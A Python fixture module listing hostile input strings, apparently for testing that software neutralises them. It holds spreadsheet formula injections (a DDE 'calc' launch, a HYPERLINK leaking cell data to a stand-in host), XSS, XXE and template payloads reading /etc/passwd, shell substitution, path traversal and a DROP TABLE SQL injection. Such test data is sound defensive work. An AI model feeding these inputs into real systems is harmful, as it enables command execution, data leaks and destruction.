"""Texts that somebody could type so that a program runs, fetches or shows what it should not."""

from __future__ import annotations

__all__ = ["FORMULAS", "HOSTILE", "MARKUP", "SETTING", "TERMINAL"]

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",  # noqa: RUF001 (the wide sign is the point)
    "＋1+1",  # noqa: RUF001
    "'=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://elsewhere.example.net/?"&A1,"look")',
    "=WEBSERVICE(A1)",
    "rocks,=1+1",
    "rocks;=1+1",
    "rocks\t@SUM(1)",
    'rocks","=1+1',
    "rocks|-1+1",
)
"""What a spreadsheet would work out, at once or where it cuts a line at another sign."""

MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</style><script>alert(1)</script>",
    "</title><svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe srcdoc='&lt;script&gt;'>",
    "<!-- ",
    "]]> <![CDATA[",
    "&lt;script&gt; &amp; &#60;",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]> &e;",
    "{{ 7*7 }} {% for x in y %}",
    "{@html x} ${7*7} {7*7}",
)
"""What a page, an XML file or a template could take for its own."""

SETTING = (
    '#read("/etc/passwd")',
    "#import sys: inputs",
    '#eval("1+1") #panic()',
    "$ x^2 $ *strong* _emphasis_ `raw` <label> @label",
    "\\u{1F41F} \\ // no comment /* none */",
    "= heading",
)
"""What the program that sets documents could take for an order."""

TERMINAL = (
    "\x1b[31mred\x1b]0;title\x07",
    "[red]red[/red] [link=https://elsewhere.example.net]x[/link]",
    "over\rwritten",
    "\u202eturned\u202c",
    "%s %n {0}",
    "$(touch x) `touch x` ; touch x",
    "../../etc/passwd",
    "'; DROP TABLE entries; --",
)
"""What a terminal, a shell, a file system or a database could take for an order."""

HOSTILE = (*FORMULAS, *MARKUP, *SETTING, *TERMINAL)
